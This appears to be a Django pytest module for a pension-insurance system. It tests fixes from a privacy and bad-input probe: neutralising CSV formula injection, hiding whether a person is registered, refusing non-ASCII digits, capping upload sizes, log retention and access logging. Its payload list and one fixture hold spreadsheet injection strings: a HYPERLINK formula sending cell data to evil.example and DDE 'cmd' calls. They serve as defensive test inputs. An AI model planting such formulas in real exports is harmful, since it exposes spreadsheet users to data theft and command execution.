"""Issue 25: the second privacy and bad-input probe's findings, each with its reproducer."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from common.spreadsheet import cell_neutral
from tests.agency.factories import OfficeFactory, RegionFactory, clerk_user
from tests.builders import clerk, logged_in, person_viewer, portal
from tests.employers.factories import EmployerFactory
from tests.insured.factories import PersonFactory

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
PDF = b"%PDF-1.4\n% bank voucher for tests\n%%EOF\n"


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def region():
    region = RegionFactory(code="310101", name="黄浦区")
    OfficeFactory(region=region)
    return region


def test_cell_neutral_keeps_numbers_and_plain_text():
    from decimal import Decimal

    assert cell_neutral(Decimal("-12.30")) == Decimal("-12.30") and cell_neutral(-5) == -5
    assert cell_neutral("张三") == "张三" and cell_neutral("a=b") == "a=b"
    assert [cell_neutral(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)


def test_persons_export_neutralises_formulas(region):
    people = [PersonFactory(region=region, name=p) for p in PAYLOADS]
    response = logged_in(clerk(region)).post("/admin/insured/insuredperson/", {
        "action": "export_csv", "_selected_action": [p.pk for p in people]})
    cells = _cells(b"".join(response.streaming_content).decode())
    for payload in PAYLOADS:
        assert "'" + payload in cells
    assert not any(_runs_as_formula(c) for c in cells)


def test_payments_export_neutralises_bank_references(region):
    from contributions.models import Payment

    employer = EmployerFactory(region=region, name='=HYPERLINK("http://evil.example","公司")')
    from datetime import date
    from decimal import Decimal

    from common.access import Viewer
    from contributions.payments import payment_record

    client = logged_in(clerk(region))
    payment_record(employer_id=employer.pk, bank_reference="=1+2", amount=Decimal("10.00"),
                   paid_on=date(2026, 1, 15), actor=Viewer.system())
    response = client.post("/admin/contributions/payment/", {
        "action": "export_csv", "_selected_action": list(Payment.objects.values_list("pk", flat=True))})
    cells = _cells(b"".join(response.streaming_content).decode())
    assert "'=1+2" in cells and "'" + employer.name in cells
    assert not any(_runs_as_formula(c) for c in cells)


def test_a_masked_name_does_not_tell_the_names_length():
    from common.identifiers import mask_name

    assert {mask_name(n) for n in ("张伟", "张小明", "张欧阳娜")} == {"张**"}
    assert mask_name("") == "" and mask_name(None) == ""


def test_admin_walk_as_a_staff_user_without_an_office_meets_no_error(region):
    """The probe's 500: /admin/statements/statementrun/ read the clerk's office unguarded."""
    from django.contrib.auth.models import Group

    from tests.agency.factories import UserFactory
    from tests.common import admin_walk

    PersonFactory(region=region, name="本区张三")
    user = UserFactory(username="lost", is_staff=True)
    user.groups.add(*Group.objects.filter(name__in=["clerk", "supervisor"]))
    client = Client()
    client.force_login(user)
    walk = admin_walk.admin_walk(client, extra_urls=("/admin/statements/statementrun/",), max_per_view=1)
    assert walk.visited["/admin/statements/statementrun/"] == 200
    assert len(walk.visited) > 20 and all(status < 500 for status in walk.visited.values())
    assert "本区张三" not in client.get("/admin/insured/insuredperson/").content.decode()


# --- item 4: existence oracles --------------------------------------------------------------------

def test_a_declaration_row_does_not_tell_whether_a_stranger_is_registered():
    """The probe's reproducer: a registered person of any region answered `not_on_staff`, an unknown
    number `unknown_document`, so a portal could test 100,000 ID numbers a request."""
    from decimal import Decimal as D

    from agency.models import AverageWage
    from contributions.services.declarations import DeclarationInvalid
    from insured.models import Employment
    from tests.contributions.test_declarations import file, recorded_in_time

    region = RegionFactory()
    OfficeFactory(region=region)
    AverageWage.objects.create(region=region, year=2026, monthly_wage=D("10000.00"), effective_from=date(2026, 1, 1))
    employer = EmployerFactory(region=region)
    mine = PersonFactory(region=region)
    Employment.objects.create(person=mine, employer=employer, start_date=date(2025, 6, 1), monthly_wage=D("8000"))
    recorded_in_time(Employment.objects.all())
    elsewhere = PersonFactory(region=RegionFactory())  # registered, in another region, on nobody's roll
    unregistered = "110101199003070000"
    with pytest.raises(DeclarationInvalid) as refused:
        file(employer, [{"document_number": mine.document_number, "wage": "8000"},
                        {"document_number": elsewhere.document_number, "wage": "8000"},
                        {"document_number": unregistered, "wage": "8000"}])
    answers = {e["row"]: (e["code"], e["message"]) for e in refused.value.errors}
    assert answers[2] == answers[3] and answers[2][0] == "not_on_staff"


def test_another_employers_bank_reference_answers_as_a_new_one():
    from decimal import Decimal as D

    from contributions.payments import payment_record

    first, second = EmployerFactory(), EmployerFactory()
    paid, created = payment_record(employer_id=first.pk, bank_reference="ICBC-77", amount=D("10.00"),
                                   paid_on=date(2026, 1, 10), actor=portal(first))
    assert created
    other, created = payment_record(employer_id=second.pk, bank_reference="ICBC-77", amount=D("10.00"),
                                    paid_on=date(2026, 1, 10), actor=portal(second))
    assert created and other.pk != paid.pk and other.employer_id == second.pk


def test_print_shop_manifest_neutralises_formulas(settings, tmp_path):
    from statements.models import PrintBatch
    from statements.services.delivery import print_batch_files
    from tests.statements.world import build, run_year

    settings.MEDIA_ROOT = tmp_path
    w = build(delivery="post")
    PersonFactory(region=w.person.region, name=PAYLOADS[0], statement_delivery="post",
                  postal_address="100005 =cmd|' /C calc'!A0")
    run_year()
    _pdf, manifest = print_batch_files(PrintBatch.objects.get(region=w.person.region))
    cells = _cells(manifest.decode("utf-8"))
    assert "'" + PAYLOADS[0] in cells and not any(_runs_as_formula(c) for c in cells)


# --- item 6: money and months in ASCII digits only ------------------------------------------------

LENIENT_AMOUNTS = ["２９９３８.００", "٢٩٩٣٨", "2.9938e4", "29_938.00", "8_000", "1E3"]


@pytest.fixture
def declaring():
    from datetime import datetime
    from decimal import Decimal as D

    from django.utils import timezone

    from agency.models import AverageWage
    from insured.models import Employment
    from tests.employers.portal import Portal

    region = RegionFactory()
    AverageWage.objects.create(region=region, year=2026, monthly_wage=D("10000.00"), effective_from=date(2026, 1, 1))
    employer = EmployerFactory(region=region)
    person = PersonFactory(region=region)
    Employment.objects.create(person=person, employer=employer, start_date=date(2025, 6, 1), monthly_wage=D("8000"))
    Employment.objects.update(created_at=timezone.make_aware(datetime(2025, 6, 1, 9, 0)))
    return person, Portal(employer)


@pytest.mark.parametrize("wage", LENIENT_AMOUNTS)
def test_a_wage_in_other_digits_an_exponent_or_underscores_is_refused_naming_the_field(declaring, wage):
    from contributions.models import Declaration

    person, portal = declaring
    response = portal.post("/api/v1/employer/declarations",
                           {"period": "2026-03", "rows": [{"document_number": person.document_number, "wage": wage}]})
    assert response.status_code == 400, response.json()
    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(1, "wage")]
    csv_body = f"document_number,wage\n{person.document_number},{wage}\n".encode()
    upload = portal.api.post("/api/v1/employer/declarations", {
        "period": "2026-03", "file": SimpleUploadedFile("roll.csv", csv_body, content_type="text/csv")},
        format="multipart")
    assert upload.status_code == 400 and [e["field"] for e in upload.json()["errors"]] == ["wage"]
    assert not Declaration.objects.exists()


def test_a_json_number_with_an_exponent_is_refused_as_a_wage_and_an_amount(declaring):
    person, portal = declaring
    raw = '{"period": "2026-03", "rows": [{"document_number": "NUMBER", "wage": 2.9938e4}]}'.replace(
        "NUMBER", person.document_number)
    response = portal.api.post("/api/v1/employer/declarations", data=raw, content_type="application/json")
    assert response.status_code == 400 and response.json()["errors"][0]["field"] == "wage"


@pytest.mark.parametrize("amount", [*LENIENT_AMOUNTS, "1.5e3"])
def test_a_collected_amount_in_other_digits_is_refused_naming_the_field(amount):
    """Money enters from the collector only (issue 22): its records' amounts are ASCII digits, a point
    and at most two decimals; anything else is a fault of that line's amount."""
    from collection.feeds import Faults, line_read

    faults = Faults()
    line = line_read({"account": "1001000000000001", "transaction_id": "T-1", "value_date": "2026-01-10",
                      "amount": amount}, row=2, faults=faults)
    assert line is None and [(e["row"], e["field"]) for e in faults.items] == [(2, "amount")]


def test_a_period_in_full_width_digits_is_refused(declaring):
    person, portal = declaring
    response = portal.post("/api/v1/employer/declarations", {
        "period": "２０２６-０３", "rows": [{"document_number": person.document_number, "wage": "8000.00"}]})
    assert response.status_code == 400 and "period" in [e["field"] for e in response.json()["errors"]]
    assert portal.get("/api/v1/employer/contributions", {"period": "２０２６-０３"}).status_code == 400


# --- item 2: streamed uploads ---------------------------------------------------------------------

def test_a_csv_over_its_limit_is_refused_before_it_is_read(declaring, settings):
    person, portal = declaring
    settings.DECLARATION_CSV_MAX_BYTES = 1000
    line = f"{person.document_number},8000.00\n"
    big = ("document_number,wage\n" + line * 2000).encode()  # 60 KB + the multipart framing
    response = portal.api.post("/api/v1/employer/declarations", {
        "period": "2026-03", "file": SimpleUploadedFile("roll.csv", big, content_type="text/csv")},
        format="multipart")
    assert response.status_code == 413 and response.json()["type"] == "/problems/payload-too-large"


def test_a_csv_within_the_request_allowance_but_over_the_file_limit_is_refused(declaring, settings):
    from common.problems import PayloadTooLarge
    from contributions.services.declarations import declaration_file

    person, portal = declaring
    settings.DECLARATION_CSV_MAX_BYTES = 100
    data = ("document_number,wage\n" + f"{person.document_number},8000.00\n" * 10).encode()
    with pytest.raises(PayloadTooLarge):
        declaration_file(employer_id=portal.employer.pk, period="2026-03", csv_data=data, source="csv",
                         actor=portal.viewer)


def test_too_many_rows_are_refused_as_soon_as_the_limit_is_passed(declaring, settings):
    """The probe's 50 MB file was read, decoded and split whole before its rows were counted. Here
    the bytes 100 KB on, far past the first row over the limit, are not UTF-8: a reader that stops
    in time never meets them."""
    person, portal = declaring
    settings.DECLARATION_MAX_ROWS = 3
    data = ("document_number,wage\n" + f"{person.document_number},8000.00\n" * 4000).encode() + b"\xff\xfe" * 5000
    response = portal.api.post("/api/v1/employer/declarations", {
        "period": "2026-03", "file": SimpleUploadedFile("roll.csv", data, content_type="text/csv")},
        format="multipart")
    assert response.status_code == 400
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [("rows", "too_many")]


def test_the_employer_is_locked_only_after_the_file_is_parsed(declaring, monkeypatch):
    from contributions.services import declarations

    person, portal = declaring
    stream = io.BytesIO(f"document_number,wage\n{person.document_number},8000.00\n".encode())
    read_when_locked = []
    real_lock = declarations.employer_lock

    def lock(employer_id):
        read_when_locked.append(stream.tell())
        return real_lock(employer_id)

    monkeypatch.setattr(declarations, "employer_lock", lock)
    with mock_today(date(2026, 3, 8)):
        declarations.declaration_file(employer_id=portal.employer.pk, period="2026-03", csv_data=stream,
                                      source="csv", actor=portal.viewer)
    assert read_when_locked == [len(stream.getvalue())]


def mock_today(day):
    from unittest import mock

    return mock.patch("contributions.services.declarations.today_in_shanghai", return_value=day)


# --- item 10: retention -----------------------------------------------------------------------------

def test_the_daily_purge_keeps_six_months_at_least_and_drops_what_is_older(settings):
    from datetime import timedelta

    import pgtrigger
    from django.db import DatabaseError, transaction
    from django.utils import timezone

    from agency.models import SecurityEvent
    from common.models import IdempotencyRecord
    from config.celery import app
    from insured.models import RecordAccess
    from insured.tasks import retention_purge_daily

    settings.SECURITY_EVENT_KEEP_DAYS = 30  # below the floor: six months are kept all the same
    settings.RECORD_ACCESS_KEEP_DAYS = 400
    person = PersonFactory()
    now = timezone.now()
    ages = {"fresh": 10, "five_months": 150, "seven_months": 213, "two_years": 730}
    for label in ages:
        SecurityEvent.objects.create(kind="login_failed", account=label)
        RecordAccess.objects.create(person=person, kind="person_form", actor=label)
    for label, days in ages.items():
        with pgtrigger.ignore("agency.SecurityEvent:security_events_append_only",
                                            "insured.RecordAccess:record_access_append_only"):
            SecurityEvent.objects.filter(account=label).update(at=now - timedelta(days=days))
            RecordAccess.objects.filter(actor=label).update(at=now - timedelta(days=days))
    IdempotencyRecord.objects.bulk_create([
        IdempotencyRecord(**_idempotency_fields(key=f"k{n}")) for n in range(2)])
    IdempotencyRecord.objects.filter(key="k0").update(created_at=now - timedelta(days=31))
    assert retention_purge_daily() == {"security_events": 2, "record_accesses": 1, "idempotency_records": 1}
    assert set(SecurityEvent.objects.exclude(kind="records_purged").values_list("account", flat=True)) == {
        "fresh", "five_months"}
    assert set(RecordAccess.objects.values_list("actor", flat=True)) == {"fresh", "five_months", "seven_months"}
    assert list(IdempotencyRecord.objects.values_list("key", flat=True)) == ["k1"]
    assert SecurityEvent.objects.filter(kind="records_purged").count() == 1  # the purge itself is recorded
    with pytest.raises(DatabaseError), transaction.atomic():  # other deletes are still refused
        SecurityEvent.objects.all().delete()
    app.conf.beat_schedule  # noqa: B018 - configured on access
    assert any(e["task"] == "insured.tasks.retention_purge_daily" for e in app.conf.beat_schedule.values())


def _idempotency_fields(key: str) -> dict:
    return {"owner": "client:tests", "key": key, "method": "POST", "path": "/api/v1/employer/payments",
            "request_hash": "0" * 64, "status_code": 201, "content_type": "application/json", "body": b"{}"}


# --- item 8: uncertain deliveries reach the supervisor ------------------------------------------------

def test_uncertain_emails_show_on_the_supervisors_home_page_until_resolved(settings):
    from datetime import timedelta

    from django.utils import timezone

    from common.access import Viewer
    from common.outbox import outbox_stale_mark_uncertain
    from statements.models import Delivery, DeliveryState
    from statements.queue import EMAILS
    from tests.statements.test_delivery import DiesAfterSending
    from tests.statements.world import build, emails_send, run_year

    settings.EMAIL_BACKEND = "tests.statements.test_delivery.DiesAfterSending"
    DiesAfterSending.sent = []
    w = build(delivery="email")
    run_year(send=False)
    with pytest.raises(SystemExit):  # the sender is killed mid-batch
        emails_send()
    delivery = Delivery.objects.get(channel="email")
    Delivery.objects.filter(pk=delivery.pk).update(sending_at=timezone.now() - timedelta(minutes=6))
    assert outbox_stale_mark_uncertain(name=EMAILS, actor=Viewer.system()) == 1  # 6 minutes on: uncertain with the default timeout
    region = w.person.region
    office = region.offices.first() or OfficeFactory(region=region)
    supervisor = logged_in(clerk_user(office, groups=("clerk", "supervisor")))
    home = supervisor.get("/admin/").content.decode()
    assert 'id="alerts"' in home and "/admin/statements/delivery/?state__exact=uncertain" in home
    other = Client()  # another region's supervisor is not told
    other.force_login(clerk_user(OfficeFactory(region=RegionFactory()), groups=("clerk", "supervisor")))
    assert 'id="alerts"' not in other.get("/admin/").content.decode()
    response = supervisor.post("/admin/statements/delivery/?state__exact=uncertain", {
        "action": "record_sent", "_selected_action": [delivery.pk]})
    assert response.status_code == 302
    delivery.refresh_from_db()
    assert delivery.state == DeliveryState.SENT
    assert 'id="alerts"' not in supervisor.get("/admin/").content.decode()


def test_lost_ranges_and_uncertain_sendings_wait_minutes_by_default():
    from django.conf import settings as live

    assert live.STATEMENT_RANGE_REQUEUE_MINUTES + live.STATEMENT_CHECK_MINUTES <= 10
    assert live.OUTBOX_SENDING_TIMEOUT_MINUTES + live.OUTBOX_RETRY_MINUTES <= 10  # the statements' e-mails


# --- item 3: every staff view of a person's data is logged ------------------------------------------

def test_every_admin_detail_page_and_export_of_person_data_writes_the_access_log(settings, tmp_path):
    """Walks every registered admin whose model holds a person's data (its scope_paths name a
    person), opens each detail page a clerk may see and exports each list: each writes its row."""
    from django.contrib import admin as django_admin

    from common.person_views import person_path
    from insured.models import RecordAccess
    from statements.models import PrintBatch
    from tests.statements.world import build, run_year

    settings.MEDIA_ROOT = tmp_path
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    w = build(delivery="post")
    run_year()
    region = w.person.region
    from decimal import Decimal as D

    from insured.services.staffing import enrolment_submit

    enrolment_submit(employer=w.employer, document_number=PersonFactory(region=region, name="李四").document_number,
                     name="李四",
                     start_date=date.today().replace(day=1), monthly_wage=D("8000"),
                     actor=portal(w.employer), channel="api")
    office = region.offices.first() or OfficeFactory(region=region)
    clerk = logged_in(clerk_user(office, groups=("clerk", "supervisor")))
    opened = []
    for model, model_admin in django_admin.site._registry.items():
        path = person_path(model)
        if not path:
            continue
        # rows that show a person (a payment of an employer, issue 28, names none)
        rows = list(model._default_manager.filter(**{f"{path}__isnull": False}).values_list("pk", path)[:3])
        for pk, person_id in rows:
            url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/{pk}/change/"
            before = RecordAccess.objects.filter(person_id=person_id).count()
            response = clerk.get(url)
            if response.status_code != 200:
                continue  # outside the clerk's region or not viewable by the clerk
            assert RecordAccess.objects.filter(person_id=person_id).count() > before, url
            opened.append(model._meta.model_name)
        if rows and "export_csv" in (model_admin.get_actions(_request_for(clerk)) or {}):
            before = RecordAccess.objects.filter(kind="exported").count()
            response = clerk.post(f"/admin/{model._meta.app_label}/{model._meta.model_name}/",
                                  {"action": "export_csv", "_selected_action": [r[0] for r in rows]})
            b"".join(response.streaming_content)
            assert RecordAccess.objects.filter(kind="exported").count() > before, model
    # The probe's list: the employment, relationship and pension-account pages, the delivery page.
    assert {"insuredperson", "employment", "relationshipevent", "pensionaccount", "delivery"} <= set(opened)
    batch = PrintBatch.objects.get(region=region)
    for kind in ("pdf", "csv"):
        clerk.get(f"/admin/statements/printbatch/{batch.pk}/file/{kind}/")
    logged = set(RecordAccess.objects.filter(kind="print_batch").values_list("person_id", flat=True))
    assert logged == set(batch.deliveries.values_list("statement__person_id", flat=True)) and logged


def _request_for(client):
    from django.contrib.auth.models import User
    from django.test import RequestFactory

    request = RequestFactory().get("/admin/")
    request.user = User.objects.get(pk=client.session["_auth_user_id"])
    return request


def test_the_api_lookup_by_document_number_writes_the_access_log():
    from insured.models import RecordAccess
    from tests.agency.factories import clerk_user as make_clerk

    region = RegionFactory()
    person = PersonFactory(region=region)
    client = Client()
    client.force_login(make_clerk(OfficeFactory(region=region)))
    response = client.get("/api/v1/agency/persons", {"document": person.document_number})
    assert response.status_code == 200 and response.json()["results"]
    assert RecordAccess.objects.filter(person=person, kind="person_lookup").count() == 1


# --- item 7: dates bounded by the facts they follow --------------------------------------------------

def test_a_reprint_is_refused_for_a_year_before_the_persons_relationship(settings):
    from common.problems import ValidationFailed
    from statements.models import Statement
    from statements.services.requests import statement_request
    from tests.statements.world import YEAR, build, run_year

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    w = build(delivery="email")
    run_year()
    person = person_viewer(w.person)
    with pytest.raises(ValidationFailed) as refused:  # the probe's reprint of 1992 for a person born in 2002
        statement_request(year=1992, actor=person)
    assert refused.value.errors[0]["field"] == "year"
    assert not Statement.objects.filter(person=w.person, year=1992).exists()
    statement, _delivery, _created = statement_request(year=YEAR, actor=person)  # a year with contributions
    assert statement.year == YEAR
